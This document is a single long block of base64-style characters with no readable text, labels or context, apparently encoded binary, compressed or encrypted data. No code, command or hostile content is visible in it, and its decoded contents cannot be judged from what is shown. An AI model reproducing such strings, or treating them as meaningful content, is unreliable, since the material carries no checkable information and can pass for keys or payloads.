6BSxq2aC7EO/rx8NkDY5SiwZP7KfU80CxSjYsBgZJYSJix2qpdCHlupDipK0LUoH03nFYrHKNV7E282OXpScxtMrCXEykqis4hF5H55Pa+JZU79XlaPuQhdO7uds1WW2cX5gIQqNWO5aWKT0Mn0vSr7oKX0hQnSC5gHom9ktrWaENc2Hzy8yuxEDm8/BvW4veod6Ep/r6izLDhtAEzFmLQeGqYSUCQxJVr0Imb92+bOuRShvBapEFGwALqPCP+W1xWQN+GNpGcyguSQQp/DI8iVmhTEQBNPLbQS4BXKhAbTViYS+2G/MSGoFbRa08GhlCu2AtRerQSdWB7WgrLA2GdnXoZ1elAesXWQ83DkWP2IFl4rp1/5l+NGRwcM+XF+IWT3tdwpwCmkqyNXsI1f8NBbfcHTwC2SV3QBoMqkmudB9arDOcb8nw0vRgVanPM368xBYIdG+gepGJpBUpbyHl0fXmdFMvQy3z+2ZbfeCRgNXPRUANGp5DqxRrtWPbJdjD2gkGvTE/uXtQS22DlE6mIuCenM0E0xO7IaRfzuRBWx5q8xXODxSGvCqAHhtDvvCqv9nuO00GR578vbN4XoHFvXDfZNQko9uR53tiq6EXoiZmWxeDZmhDjsfY330J78mnuYd3hjPr/EIaWJvwcCCs+s2512HyqxR2jiBUiJ9WRIyod4DM0Mg57GaJ4WD/6B8IWvTyFX/Fh4ltisCgTXK3qUJ/rH9vJv4NfZIW5FlWlZGmrhFtvci36aZN9JienSKOf1OszISymCWdqvuYwcwBQkmzf0Ivtdos3HdGFJh/vh6y9XtpS9/LZCIhMd38fJNyQDUFMLcm+Ox6/9tNEGZeT/M5D5SdZak5LgbIB4Tik9WgazL64IYu+Y9jTe4XPq3HxixwpJLEAuWCZLVa0hDlEehJuJu4XJKxEmpxJ15+R+plbu/Ew11ryE4/20CCnnFb2gvUWIbMDCOWrhgXFu1GjGDoPrY6X7U9cS9CbfSJfGsS74DU2vNSdR64BFECFwtY1PFv0bFG1c/F35paqIdSgV6cmiqFd0OVjlh6Ki3UVApj0qreVD9mtXJ1xWJWtARG+XE+LRqUaMk8AZCaH/KPjnu4ssy7lc/3hrilWeDkUYrKK9YIsBMxVm05I4pSpojTcV2LxA2nYfOd2SLkPpnyUSRPRJh+T4p2hCzwoGlEg8g/+5Wk2Ue6odH5Yt1lxYNz2mwwWkO1MUX5qLoZJevlyUM9yS8iiPJ/QyCpEotarN2AlMc0yEKzpSp62vaVW7Sc4DypqeJ+8jDY2iiKNPnNkfKcKjh8ibhZtsrqjPq6OBnokUt2NBVc0gSJ1vpfmqUiYVrnTWBIhnghp+gWynQjkZKFRmJrrrq5U7xZe4KSOfqQ1RhMbnSLEOrD5cwZyb0oCmGQd826b6twy6eris142JG4BfJZwdR1aojB8EoK9nrDFNydWina1c81/CDyC5eJbf4g6ov8onKuqSZHrfPdjWDFUpF7uHrtkW2iMGebLuO8WEfIeAoE44/ZOL3gU2fs1UTrkuVgWO288azriNW5KNGQ3mgtvSQZ4MyN8SHm+8N8xjDbthFOpFsGIXTNKpcWgnwH9tNNR04iC2iCgBg+dvNgs4Zo9fmkCe/MMWAg5MDcRycwoS7J+tFOP6EYj0CU4FoNfaw8L18hFKcHiiMI5ApBh0+TDhNhVMnvC4KtSkR1sfTcZBaJ5/Dc4Uk4aQxniXeZdrK9M/QGDcbsVKQlhsWvvsc1rbTCii1DRgFi44Hv9ECOIG9F5waMlXTT27vN5LEnzVM3He3GAkG/fu4LXlENT/fUwklF+3UJ52u0H4p8VdzOEUle+dtA31onTkgEbYstPP1hllc1VNY75QIv97NG6QCOTj1vVwNles0pygcOkTjlTM9KNgcHjtiu4+iEGu2QtopRCtderDa+W6X/8S5Qd11pKzsCNuGf9fvKy9oq/JAXakvYFbHJ5ed7gzb8+cqV2KIBww6Bzcj0E8HUUh2BY2UTZGF2N0XQgwYmteaZxZLYwwln+ZEauvdOQdj3PQQ8VTQTCbmy7kRqdipc1JO5kIDmpOBvVppcAzYmlIYrqcEmmY7ICeV13dcFERs0fshPRhosijxw5WOBPP+LxHyW9j731fiac7NvmSSXfz+l6SwFzEF6VUcJwxSlrF3Y8smfQoTDg+psow8C2UXqctKAZx3Vpvdfdht9AHrwjZoRt8u29ChDKff47AB/iE8IX1FER2rHIfUPKaJqKB4zL1qiD79W51gnZ/NOXxK1gIBXKAmv/2u3DpzgtINjDfzl3ZB+wWxHzEJ09PBJKB0LwSGNxSMaiXaMU5jzjWDoltFMzJ3hyp7aBi/vOxElinXB9mX3M+4IvJs+QWxpISHFEbtL1uFzbcd4OScIa+7RCXMbt/4XVQu8nGtRRvnQw/+gl+AwYwHSBg2FM/1nmE7biMxyP0IwD1PYp1CYY0hWjbcN/BKLzX5Y2SeYlng//MZBkR/MVZhP4i+qLsiJKCaYgTFrfJNBBwKKgupWWOhaex6NZe1CgqDmXuCTKTMuKJNvurwMjg7gGR8KD4cvekCOOLIY+uB4RvzySkbd9dCvy26oT2ZwzJd5rfrZuMYKKa/4JnnvV2HgcI5wKgETZ5hzOEL3iV7tjxjEr6ixGth7dXWnwe8eCucG9647UDOjny6wzRhT0iWRy6kNn7E+28DcI2hkTkX/G1h7eozSz9sJmYOZa7u2bepbovJP1/zdplQiL7U6C6eh0QXkYrtRYHdfjKibqebmb0EVP/7uRkz5lDNsyA4e9Ono9ZgNfOhmocQGzO5IoHxSJWaWYIgERx8MtshPQDqHHpSxt3W/ur5zBOIllj/LJu/HJONPtCHpVHrok4hvk315Br3/HngOvwKaS46x9RjNX31JlQXeIXNH508RteCM19F3Kxze5kNRmyu/lcFtmYUuyjv1288yVjlVaPX3uMaZFfs7j5piHQcGDE7VPTkbZrrmvqYFJeghtXEngziCwdd/L4tw4OOcOSPJPM2zEfqcCVhXhbvRn+UV7K6b7PJPbNWg5Y+3klq1RJTy3MlN7kyUFR+paTuuILHZWkYOUWf7QQaQWTOy6kxAMx0lYhlhUfhJrT4a+vHh6owCZCKc0j1ShYn1vpBHCAhNP9K7sIUWIMTijPFVFRNfmw1IcfyJF9xaBW5Ee3Uzgc8V5Ibz+Ts50Ffxy8u28gX13mI3idpn6yZ4q6Az+49pTPOk1ICb79OHD1xMwXkzrlJf9PIN5+AhzgNL9uuFfcEin9gRNrT8sAfiU3nNyByWyJe1waT3fb6XapI0v6N3YDgRZ0RLshDPh17SRTGg9bgulw2ATN99vTbMRkh7753Aa954xwxZtJDxsnFi2aCswiTaL3wbG6H4eq0qsBOq9PYpr6/Kgwus2FdJQ3ngV4ZYf2l+SqrtbvQYSS/wB7CahPmyJTbc+x5rSAw8oYfzDv/pha6l6/RLDumZzTlTsyqf/rS9uNVVdsRgUAyOmMGqq2Co1Zr4LbRpMnu9L61v4qVs1zC5FI11mG+qQFx75UL7mkh6DtVteu2eiOlWMWRjfVm2axrdT/mkRqrxArvvtFzQjmG3Bzho/uhLvDt42di+oKAvunSaMnU096kq4HhRrEVlnib6FYDpa+lK1dRdvUJnRLkWoirBL3DipdG621lHlf5c1UUYy6x95H9lJPLyQ1R/e+Ujipzg/Sktcxj6zE1IMM9qs82sghis5Y0oKUZgfP1QfHcFUB0/A8uXnxQEueVN4Fr3tkWbuCD4GLxJ5rleTkzWIzdImSiGnmIHM9vDBoxLrKpQlSxDbGY2WiN8bD6cDyh3IUYG0lGgOnbRLbAmuIFjjRsGNZ9QzoulCCEnaD4q5ywnCkc65EHZhf9GVHgLtWcWb8LttttujYTzmJBijDM7x4BARKoI91HZBAxn/jXcB05Kx1C6tiSN07J4EuXTAkeccj49VZVqrEE7U/rig0Xklztk393wbqyyZzjKRKJiwB2ROA97X7LvEJww5A+3UwWuvqDzXkJ5jUC9uvukltunRJTqZZIyBJYzEzoN5hJXc0BT5V7OiYtoE7oHySdRMta4JSPSp2sHVSZ++7OwDguV8N/uwGM5vTXmLBTdNML/7fAzBU+sZujvAMEb2VS4bif467b1xsclPwUBWUD5l/+2smSq9V6r4/890gUzhzIY5Fd7p/vQ49KwZ/BLR/DZbpuOrCKGQW06Mew9aEmCSc7Kfx19rQpufPMtYymIvHpVajMMto5I7j33m/gunuMCU4Xr9G2aoTaa66+4D+HIqzxR8F8GcVv/92c3gp9f0WqrKlBKRPbMS6fZfjkJOwJVlbm49QkrUex706ufooaLJ/NT8JnlqNSMJV+nNoPUrKyzPB/6GMop3RpI3FOz6iW7y2lIe5TARfJ3atDS1+4x9TM+tKqJJpbiQb2CObyuLLZVChjGeYaGuQlt/JdW5AVICmUNdCMW2tmtPyKhgutegbNQPYApsb9Pzn03yq/vzJ/ga6uIxCzx7vbW7yW3iI3uMpiJuYpURZ4LAe9nt4wXFEj+F6mo6P0/AykEOQdNge0Ofk2Pn9fKWiFpOpFAfcpQsN9U0PBUgI6Vwuw5bOay/cIqFKN0+Njd01VNMpoJAAGMcZ6CLcOpT6OOpHbujfgpHYwpqT/l5JNMOmylH4nH9XqAJlTUkeU4hX0NoY6m3wSkGNRGnv2JbcArAEveYc8ULMF0sNWGmAnUelbyCjDB8TBzaYC4X7o1sr+1ar92ZSvI0dbYuFRxf+/S7VwPVkOv0Ujg+mz5g4u4uLLgM7Fv2a9sn0/tvXt6CGARqoPrwkUM4DfQPLbDkgaC0x6q/klyCOlxz1OqsfoTMr4+WneLfI8ce53hLMXS6zJdjStLkLKm5ejpgEqMUVyY6Ebl8j6rSGLqnZVpL3w3/dSsiXHwpbXbDhjQVdFvzJkgVfNWUnEayDvXi2EFWEFY7mvDA/ybv4yGQhsl4PVRIk336Vii6tKxzIwAzVP25kGGDYBqJ2eOVw+eYzgVSUYSr8Cq/MVvoYc7+QJOEyJKmpcmnl9kivFBnMJ/S98A+K2aXATj/qFh3p4haIaOYEDa60PixaCBD5QnO0g8xDp7T3NmW6N0Y2MabYzdVmPJt1g4TPkdCQ/lmUc+As24D5ocOO8+jHy2eAS9plXuACu/8xkKhRoBknHw5xugv744kwEFa4pBNj0Z/HzT7e5wEWso37QI5fslqyPG+3KUF/5pox4XiwTHNO6+XV6UwfUraUXxB4aVfHst5w1mUhbQB1TPXAlX/lJO+OH1zPbTQe6WwwI5gX7uC9uGEMiVmUKnN7iYDjMuMMIWPEq88f/tYxBWwjmrkTxjZoZIYtloBauXBhJVP1xwIwSh/rcLrbAYRulromUpmVM4g9q1p2MegkDwZYnRGWwaeHuAn1+B/hbiahVX351hlewkUmlC0AhOhHS0LqG+BwPHsyiyVkeh2Dqm9pGrTEpEfhDfk4rm7/r+RzAbnd5xC8RVYBLo+ye7Lvyb+dgguITOTlux4EySjtbvBCoGcymvLxzcnKqlPbtQiibpR/3vsi5+J4CfZ79tLfHDr6RRwQhADTcan5d3Gf9TbcqNbDWa/2TnINmGkIBoLYdEahYUY2vCUQsNxRl9yC7DNeY24eHhfR6o4daBl/Idc4HleHle9GQl4phE6sdDXQe++ws1v9yqUY7KotRFxIpUaeeIO5iiySHwSNe983c2edmQgOtg90knrZ4yV9gC4htcvr2HLalT/XoukIMx0ETIfjuSmymQ4yOtpQP0p70RiH+TfH1ECJ4u0fmy6ykL+/j2QgWljPGKMPS/u4ryp8FFiiM0a8N11HCskg5H51exHdZpGPXaiTTcuNReFPrs8dMfdQsHlbQVZ1BlgTD8XY01Pm5dnyaAI0Lt3lkZdDVlBhHSSWkuZg3LyM4+FFa+pa3XaSBoaVJqb+Y1nVVhraR4NMinYEcQqF1y3/TH2i2mVFWsUetB2wS3X3WIflYK43JwiTSqy5YDvkxiHKBdcNOYdVyI9XQnSRXt4KLQ6M5oG6j65yIQ4yQ/4eA3Dn8P7YJUhwC3S8aMW+qRTR1CgqYuRSsLdV2r/h1b6AtEonAZMQLLotmSR/LZ8VLpI/IdqZ3MdORQDbDkoxJ1uh5TpOUcvLm0VMTqcwM7G9D1v/kil8Zrcwb0UaGJ3rj5kiq8hWpLINg8OlStQC87C62CK7FODQm79wuzmuexPho4hP2FdwfAP0W9EStX1SNruNz7yafaT1hEyE960uAfFwCcq2LT1sLOPpCtBJLiizP9wlg93kmGV9CAk/d7fOgaJSEOcji2zKbk67cNljn+u7K0PDJOyKqEd68/baPnf44d/Wj9UzAvWTwCfDkVBRP/bX8wV6vwUX+dvaQzOxHkz3aXQnfGN2y5qDebhkW3tnLRpVK/OUJHKwzZfg7m8d6BdROKVlRwcW7kkBLsipYlQAuKqm5mmPtP7T1oouSaiJWKlqtmvwFlj0vTBM9+r0CHb6nHmmPLVVmuJt3PWzsbEVdDgBfblbI6g7BAqYBVtHn9HJfIVNDCRpOyciQJpx6Pv1Y40QRwXCuNssNy2DMcG04bYv+A6sT7ESWo9p+hlK6ZUAREG+DQ0uoftdkhWfm0Fbe7B+MlMFlnkoMVCgMKAnvTPW5bp2QTgBcYHLq0WSXvzXwJOk5KEbz+JJ3sodSnDHMBhcEP4tAR1OwMbTZRnLoN1lh7LZQaptq6o3mt5W+TifL6oRx7Z4Ab6HLZWL7qp8e42r6o7E1mwdH+/kO7WVb/fPXv5WjfiMj1e/nX57YPubZQDY7Dyqk+IHeiE88Ja+1U4ksPvYvUv5nf5X08W2klm7e3nWbbTf3gtFe+/dWwOwH9JqjRJcD5nB5/pUC3u5jR24o0JNgGiN2YHd78G9pq+JV44Qo63f+1vyGE9ZibISf6gHvDcFzsx9kR8QTf5EdSgD2/hRtKchM2yU0iOjvqptqEYnVAsKnS8dCwefOmopSKKuXe/CXEQyinXTxyIoisgljyCEyPSNwFXwHIcHKx7Pk/KIkrF3gQ4Q/c5tdZhPSt8JLtaHGM+TXmxAuQikC0Jvm7fmCCcSwoO8z0j33u298oQDJci75eZyvJ1GgPPd4HLdgW2hYW2P/3wHnZYTmx1+wJmPh3RM9MYx+Y8E0LY24Rewgxyv/+CVJiDJsFSkR3w5y9OQOhk85l3GjMP0yF7+3fx4yNg6bvU8Dy0vYpefgkjkpjUAXOvbpzhFIjzUH0Ba1exDBGuhK7fsbVX2bCUYEZn5rA2dvuJ+JeO/PYPe1b3SiTo7p2jh3Q3x9vnqp1MiUHKcalJX6JIGmgw5NAWHZbR1WDYCxZFLLsSEElQEg7l/yNpDHmoA0IRs3EwLy4Di23xW51QlNFc/cVlw41bA7n7Ho3YWvDhdhfEjCd6lwpNpHmdwSg37N6Yme1kNFTtllfILTgu1Vq9gwyfgUbZ+KN+lW/WJhvfhuFbaKlCN/iZcQQq/OKsN3WVDOrqEQjAXzvIIhfcRRCTxke6JVkxMGuYaTME2duJyvM9cktd4gJQAYQ88n1UbnwxjzzvqkocEQCFQHzmvaDs8P9rmIaLzn2IaEe+CvkWVGqzbFTW/4q1iAsij4eJnJHEINPKWS51LC7qaClONKJFMJzSrISufIiktj/xsURr2EiHM8Vddxgbx3Iy7gdnIdkVnI+x8uH7NNg5q+T7L/mxOAoyxVFwAXcK5Zac6NtlerbmI6NzFcjBNEPxvNv+ChRXx63k9X+qyHpOcVWZT61cDNHw34AqmaywWGXIujm7JwfTsnvD11k7pQwJpeDoHtuq8GEow/2Qz+Ke+8TttuTjOOapJpGGjqXPATt0hIoSQ4WQNuigjNHjmLN3fs/ceS3VVB/C/RASw18rtzYE2Hb30AuwaW9fmlCGn1GVJOdGuyrtq6nur8WmoQsdJWh+wyQYMbbLm5+GsjUHwt4mOdDK8VTfBrHhR++9VljpEFB5tOKODZsnsW2lvv7787mz0mL1Y0HCmNx8/N5Sv8rcBy+N7Zt45uyC2ZU21efLZi2qN3nUNrPPe3UMIjRn1ErWj79awmdE8ziOe0DCYe+kr180REHGajsZ8AZSXJrJHNZoXS2NdXUGkmy+jxPqcx1Up3sdvcIs47EYpIXfptwxUa9LJtUjCrijCK9nB1t3vIuyC/cOy054jvD648dlUUbA0a2R2s1vqL2yMfDfxEQ/aj+J8mskP9BgURY7D2gOeJXZeEe/lmJT9PDs3A+W2jcXoA+cbVa4asbcqGwu3GHNXCFqNSVupm22CAiyk8LtFOHnIuVfLNHURyKc55TeK1TbE/53dCUj8njJLS3QYYxmjuc2fP0KNj6T4sLxdezKgpKxRX60ytEOsSROW3ZIGkn5J85xvssvsJwxHHYuBpcvPyRHWRKZZ9BrUc+LUaQe/6NHNP4JLrw+A6WenNHc/w/EJcDc6DRCz3i0n8HDuiOKua2vak+snnvV3p4LRbFG+pKJcGvDhSljC//zWA0SPTo0OTT+qgt1zoGV0Vb1IpANIsMvNUUO3ecRjiWL/PD1n5fqpDpPwvmNkGzBnH7mZjgM/9TLlw54hR+oBE0IqmFUH2v0WSRGlvwnt3jbLDI8A12UxdMVXej4X10oBZXOt6dmzojrrluxY/jO/the/EteLgX9VvSAW7IDQ6T3ZlaoXjHCg0NiXAidsMlD4p4WUXvLH7ApvBi5gRCrcv7gD9CqVDj1I2nqZaT6oJsmFuLW6IvN5/yT69LABHDdyK+NpB2RgadkLC3eL2r9ceZszavfC3Iq1MSm9XEIwE+MaRhxZ7bIes1Q4Mt+jezKnjPX3XwQRrZrPvMnq+cDkreWcL5T1MmNSFBlFtxdO0jcFVebYjSeIjpKoSscuzoy6xvhK/eHeLke1egku7QYjBZSiTlbNAuPmHjaDiGWfmeVooQpHd5LRN8Z2wl8e1oa37jXuWG6P4z149RCsxk8Wcm89KDMo4UOj2x0auFli0ScEEoGkRB8w231hQX5Rpufe7tIngqwjAWKhxfs5LY9Jl0AAHqo9UtTsPfc7w6gJDiT2z0+IwD2MmFGYO9d3pD9qUnRpSwHxy/6pcJ8zI7sRz75lD1oDhPJOfFqbQVt4DLHPjfI9SXn6OImWwP127cujDHD6u3EuUqtdP6Nh9N8gIppn89mmFCLgbXk8X2IYrZa9N2AxSk4TJ+jU/9PJsu5/KeB225ZPiCI+9mvLc/d2sUDl+HcKd8zwKktVj37Jh/2ZIXvU6ttgZJwIWKwG2gzpJctIhBgSc+yV4FU5KsiWMP8RuRUIXhRoOWFQlriVPCshYTQ05jtuCwrXO+uktVZuHDxlwuM5tfSUpWSEem34aUE8tJZ4eKxwePhePqtBjL9vx5RvuYxy6sadKBuVENs17JTwGLlgfVBpPz7QA0c0owcFW4lf2sLBtkROljo3gz9+Yb2BhP9vYGgbFLGF0uTz3v3JWr6kEGBJl5j78PqN6f3fFTSL2u72R4Mcan7+01v9lPBMrCHQSPE2/vUzgOXXS59hU3W+w77oKuaHiIMdzk+oh8fpzWsf5j/mKY8X2MG1bGxxfPk4qyTexaXVICoDkS6XUw+SQYAi1JIrLNMvGsh9plcinUrFUSEkNYLCZ9NBLG+Ly/THkMHWVRnfDqaPlQ1G4Eqmu/TMU0sf48k7yfCiML+ztK528SPuozSks3CtaedjurCHcOEKuSiS5H1E28bXE6MZsk9BLmU1K+4zPhYg6EkR1N+EGiyCuS8Q2tvnUxpvgZgNdVRc6iHtLYBEpWcrOzISATXjl4J6zcqgRqEt9YJDKGndgbuWs2SuFUBzvTzLQYIPgWHuVtLqOgAycXdAMnFqUih0rkf0mNH1tT/w1J6Ad77cXBUSiFT7gfSY0aus1DgkQxiv50dazgqFVjFttqdGO1fI4WFwqFt18VL28J3pE9CGCCVZpGWCl1JmfNuZk3DHKUs+m6pI/zJpDsNHY7Qj8xtX4fc2mzCVr8Lsx+y1zlal5+TTi7yTWVoSydpPXlnOCGB/q6zQpELn+/Ud6ZP6yFTdSNfpt5WZ8yU7KjFC/4jUtI9pqpRr7bLMlb0FbwF1wBfvYZBvrPNBL4sT9tCR/Kkhwn7crqNdB8B5cIPa6MtujzkrEhdLCnoWqrRA8fksprYSuOIwf4mdkaxntXD8VSwCKT8FiMzl5tv7WVGpGHEPdaF4bwSeELdtaGYdteesz+ZsFYFkw0xtdOp2sGTwdM+cdlmKXd6ACY6vp3sVZ0M+xG66gIIJJmvRCrEBVSDTNXdRPrUMv4PlFdjFnDMiPrYGQhf9adw3zt1UjSoKbxJV7yxBl8HnYvLowOy6FAZCsTNXfKPtMzaekMPZQoeSYk5e/U8ADCjpWJ3XDLfowyHArmsGe+w1OTerPaAMbJkFxU+qHPoX277EhZuvLxjB7yl8OQ6emXfFzuFGat19fkdAGjB+hbvDRgcklD6v5UaUJ+e+cJsV1qSxgiMyMpKoHMuSJe/fea3wCgq5IuOLPsK86nPdJNc99udyQVe5VMJ73mQvfJpcpEyftRTvNoJvwxgNQ2nBV/zCW0NrN6+gzG/F1eYpmTQYTU8TW2ZZZpuOumCjUgBviLl66CU6DzYqo9WNoSr15CdUfLj5X1AxgcuHaIz5ijwk8mNnAfr5vPYIUaN15OKomOeXTZjJvn03MtV1zjRcqN9H3XatDpFIic1CNM9SRDICJwTAm8n8eDsHn8rE5QhN9DA7Sn/L+XgUExR4PIyT/tekPZnv44IU/oKvaqUpxQYxEtb82dvW7NnLOCYpg82o5ZadO2pW9DvZs1n0+Z1XWa5PaDvAcPjxCCRx937owgIwOvOzijfFO4OJ4Cq4GHEceNYrpbp6SBwCcs2AliLlmV0V0TJG3XQTCfiCxlLONVZrefyqvh7PkTRg5OUy1eiOjmuP4qtVOzylLoMFgjDt4EXoPFm3qALvgcycaJld9BjSOD2hZb97J1ISEPeLc81E2AO4qT6s4AQ/qwXiBUAddipBjagcQkZlZUQIh8vVGHCNzsJLSWkvDNRjRys3M3nxCKhf1b9PzDUCe8PSfR2m2LjUoscnp+RUgSrGwdGDI6Uvv3FD5E23HAZNoaxedADDaTbi4YEEo3os57X/JpPrg1PjD/r0G9xDxnf1nLRqvJJjpjhyRae5bKINGuXtKH4wHgeu5o53gW3Ifp3N0i7oq99TgG+khGCr/nzRXJa8wZP6lNXPKUF8IrQdyaMQbTIj9mX98uSfZif4eaMLVS2nwofQby82j0VEO4X+Rpj9z2A5ZFHk6JvkHUhIXJOf7fNscTqBSgjxJ7+rqumxbOuoWrjjfI/A/CV5j2DylRytOuTud8TUSkqsMsAbiMsLVwICjkggp+6uI6xtb0ForvrhSRyh45dEKYkE9Ng6/r52mYKrnr8GO3r4GKmgG3QNeg1RK1Orvu1SMyMJiL1v0eEyahBEsoAKwUB+ITJdwspCfMsPZiuJKyBHUytC2AVpmB0vrsWqL7iI/W4mLFKhQiRyhus4wgpOko/5k9am/iYQmdt7BQvJbTf7jhQBMmmLLJ5YG0OaBFDeOV4hkE3/UQZme9j9VfjBzXVc00GiU6r6bcyEJPMz1O+JgKUrbrZ6aN0ANPLfc3BOHUx0RWMjH2Pt56pbHKsTNHAOOObQwcu1d6GByFQ1TacixjHR7gKAplHfDgMbWe+puvSWPxC5v8gfJ4mI2J8wzyyYJQE56zlsZs80ARpwwu/5aijBXXDhDEOeUttR10c9iU7VHIEBYmT2nNTcW7YvefUdmz+LGdmkon7Oa6cnwnX0lAKE28kpZiDKVGfiJOHkY/cVPIvwvWESdoDNEpR/orT6N5VSLgHZgzaytMj+w7oqO94tD+Nvzvb8pliMSbLN2jve5ThSzmPZV4Wc5dJxNWMlQfJ3myc/Oy67DVbkrUQ9Ov2T0rKD0OLWkCZbiM7KIK2SAOH2ossx5gILcoRQnFZVNnq0WSIUPoO8ArB/6KswlA/ImW/r3rlf8QoThpelmxMOT9tf3NgeBq9iMQGJ+yS4/EJwFkHlN3EZTqssd9lj+eC0I4Hr+Sfo9YQk6j7OeTbsi1YNmaSEGQUUy812dJijHP29pGGxHKi57K3EpJc0IjQ9ZNaV1bbg+6Y+5Hiebp9y8CMYzkrcXyZuY7PYwT+zEatbw3j+rG2zebcqZQwulMQAPii/ErxBGefxWYbpSAnMTLNvngERCw0m3N3XG6/EiiNFX06i/jejyj4MdvReBztLuPO3+nv/UbgrgT35DkBOfrWcYV2v5/xSd27O7fwq+02rC4rhAPR+qZPq800/C+JWvnKHLHd4ugjpj0/KgonwnFB3EOmqTSgyuM6wdh7fhNJa/BdH0zDlANo79RVSotZRVMtOtKy5RozuJ7m3p1JaEh5QmS+Em2jWZ8kV3SI9ajjFB8Gw5tlzIyvvuSHZp6+12Vw6PDxsHrRnep+YTB0A/QC+nDE0JNp5bJOca5WcGJRKZFTePBgvXFjcM8mVUTh5MFDSV7wABUeurschuVzcKvuzOJxaYWYhnTIilJE3M/bdpcLrmSPBPAepLYTAboHT+Vcj785Eo8XihNwtGF/PDpCP+L4sp1CbIBeeHG3GNkbhdOmXHuV73Beo5Vhn6sSGcv1Ld+80jJNWCPPshOB1xiN0yaY/efqSApGSSPYnCHPR6uM4HLy55DHaED1p30PfkDHEmk2fd5QK5M2Rv9Lx0kDr7qRpsV3Go8OjqwM726fIqPpf+7GflOy/xpTShkJYIVpXLL9I+yoEimqU6kDD9OmQSnsZvgIR1r1pq4DGJ8ErvdIzKkc8rFm4z51FeKCYRhxuru3T4RHQBpFr7GjpVj38ihpOhGLq1OJwcxx/Lc6tO2f0TG5V9K+1Sq5jGlqUYMEilQ6PNd/hhWnDmGYzwKyKnm4vTgQxHVdCz3pg8SZoOl0+lIg93sYhEasanFRA9s3GBd/lrrqVSCJ74B/KJhOKx3i4OsRneogljSDYuD4Ut8vJleWgvrN2r6QRbjmjQPMbOiSwgP9dJVaEQeVx9CRnZf57eoVaCU6mPN5aoQYmIFknyljAqWGdBI9toRBQruAVEWJCoV2NsQNE9URRxJ920U2vEOM98ssFbr4n7QYJCmvyJLIJ0DBtJ/LOsL/HOBR4s3zHvbeL62Ptbd5Z114mo+hPEvhcPoPueSUDTC+j/ssdFFN87ALXp8fxWo4eFxg8QYMK92Er5gMjh9Fefapz4yfccuOKfqm+a8e4dUnCTmxljXznA7y3rx2P+t2KZM3emroW+qVMRcS1y0IqGVE7ntiP2+EOS3FYRnBpl19gCLwcWMGoWwd1ukyrrgtWLXEsb07G3ik7pcfY20L/Vo1SAscjE7quA1zjoiDTNA0SdueCE/1xl2J3XFdfzoPanRGISFj9sPzF0G7lp0EPFD47IOu8wtsqyjPSqgJJugItPHqbdrem6TdVPPiFxi/oOr+rEViD8+wuGEdu6E1xX3XF3l99WJwzGa4zrv5wkY6+UdsqA/zl1HcCkZpw8BDD2Tc6nz6GwceQs7SqoGmKCPHSRmHQ1mkUWmITJqSjwnXxl/kbdvFO+6Q7xamGzCp9gmp09w0IyypynLEoJHiJcW7yVnRuPH0pIqqsucaN0/TJk762LY2YGpNFoHm1Knd1PN83Bod6pAmBbEpMUuOfsD7SHYwr0Fsxo+qwf0eCp6GcnZjFXp+0v7nvNT3asn4VIv7qrJoO4j0bWqryiXAbZS6vrXmu7qzqOwlsmW//Ee5/qofw4J+e8O8LeeaQaedg973/5T188EMYHPv94Hz/mHgbY+lFIA71mMCE4C8Nrqc1+XxujzGRao+Ps2puE7nAHsFqJnJtKGC0TC6cVSMZ9iyj3hAYJ4QlpgipfUjpufWQ02h+9N7yHxHDmPLA5rke/6uZ+azqQyZ8fjpAxjCQXK4dg6YDyJw2m7MBhl9bOue0lOpwTWX9NTGq0+OgiF038VxeVKL0Vz6ujzg+wtOYS0fHIYMjGdI/Pa/RJ+B4CJ8nhOT2VCTQEjckS6nW1So/sOCvvYR3LJ6eVyBdipV5eAIW7o3D7QZpScQB+xGmWdOIHmZ7hfrQPa9xjWJyblqiusPiB6PVukRXyHQz3ni5tcFFmyzNnAbN5wdLrTAF4FYEU/++ydn6NZ+VzGSM6BRQuT+X2gN9fjctyB5pTAzZi8Ddc653+ITNc6ht7M6cyacY6yUcSdAN7zfdu6LSmL9lWFFRZj6q7RqJtmTBNBKmfVUhGk/sxlTQurp7su7X1rUPF/B7u9Zy4fVt2VdcAsRDezbWOgESNrhr/HF/M4k4fIZFzl8GEwuXJ8994Tf4nnlycJdfSE8lmRXvpHRy6Y0BqVJwtqk3nEJHGjUX3CqNMMJscbQQrpiDwhkz/zsD328lKZb7Xn2Z3DzrENYQibFIRPMKCoEUza5si/Es8Q25jyE1Yhd0X3seV9clxGwUDwfsBQ/GvFPHhbSyQjuVQfNalklLZ9vtHWK4lrtGvHNMoxCDmS05JZOo4h6CjJLDdQkzn8YXiLjTrd8MDIZxltEU/kPI2QfpxV1byfnln5IWKoCfOMwsel/T37C1Zn9osJEPB98gRuqA9mgTpJc3c1dam/qRTIqmfcMzIK+qyskMFNzdJPPdcYCPM34J3JsKrv67XqO6R/Jz2zFLHQ2bNu3nRcFr53HtKLrnQRd6o/1OC7iDI7VG6GaFEUH4NgpW/14vydYru2Xk1KVVeLrV3oYao/B6xx9VEfTlK4Fy0oLNzrdjr225Jgi250NuOmmgeJxrpMKTlBZl+PfmpB0cQRn1rr+mqH2MgounF+QrWkbJS9RxkmaehkJf2WgDg/DSOWePYTYJV+KX2tmJlQloigd1c0SpU3kPRsTtf4PbtVPe9RxD0Idmx4lbgUFT6mY0t9tN+3IZrZaMNkXIRTZGdyDkucExXO5vvA7iu0WFavlpQvRr7F4Vm6C7kFqacHHYsduZ1pT/QFqvnXSxqlsdBV9uBm02QwtRk6f3NB/fyUupFQVAeNpR8mSO6GHQV7MZ+7NFbsNwsJPkEVLVTTIqy4w3DVqIO4+5HHgyXnRo0ugr5HS59pEnO8JZeTU7DtfWud0Zaj06Mkcispk+l2UUpEiZcTHpcqrrUbhqKWFbuihI7GgKekiMxEENxmsGAEbIkn/4mfuPCnBzh29oBF31FMYfKXwMW4vq2PH4xsh3z+fdPFtl396tFJoySLC33Hs3NCRWv5Wn4RlU4wFtvK1H50kc0VmhK3ahczgkNDWbJqJHRfRtMA08HYnsd23ZNs/8ZnpuVB+Mhd3xo17n68I2uDBV/kCnMPeKWfOtq5+yHGFe4XTBdn6cgU4+DP3xx/KunVtO8xwOofg5iC+ZaTPuJA67bCJJwW9ELV4mO+PnGg3SDdyxCZek6r3a98Y0PnMX8OLO7Gu1XyTKg6hseT5fiCHhDBto44d3wIRnALO/KtlNWbugIs5iv8YWtD3O+i2mqHWEbP48/VRg2T09sdB8m1rSrfNpNa364b+u3l7xn/blppxM/YgNEntF8kazkwHiv6+9CIG1CBgvq+fJLS9eTttUPl0+DHyaUsOePdwb4RDuVWtDEJSXb0DEfyobcpZbYG39BdFentRKkLi41lDZ3hYCsx8m6oHb3rtMX092HixZQqH